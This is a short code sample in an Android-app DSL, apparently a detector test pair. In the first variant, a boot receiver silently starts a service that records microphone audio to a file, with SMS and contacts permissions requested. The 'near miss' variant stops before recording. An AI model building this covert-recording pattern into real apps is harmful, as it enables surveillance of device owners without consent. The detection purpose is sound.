permissions("INTERNET", "RECEIVE_BOOT_COMPLETED", "RECORD_AUDIO", "READ_SMS", "READ_CONTACTS")

@receiver(actions=["android.intent.action.BOOT_COMPLETED"])
class Start(BroadcastReceiver):
    def onReceive(self, context, intent):
        context.startService(Intent(context, Work))

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        self.work(MediaRecorder())
        return 1
    def work(self, recorder: MediaRecorder):
        recorder.setAudioSource(1)
        recorder.setOutputFile("/data/local/tmp/a")
        recorder.prepare()
        recorder.start()

# near miss: prepares the recorder and stops; nothing is recorded
@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        self.work(MediaRecorder())
        return 1
    def work(self, recorder: MediaRecorder):
        recorder.setAudioSource(1)
        recorder.setOutputFile("/data/local/tmp/a")
        recorder.prepare()
        recorder.stop()
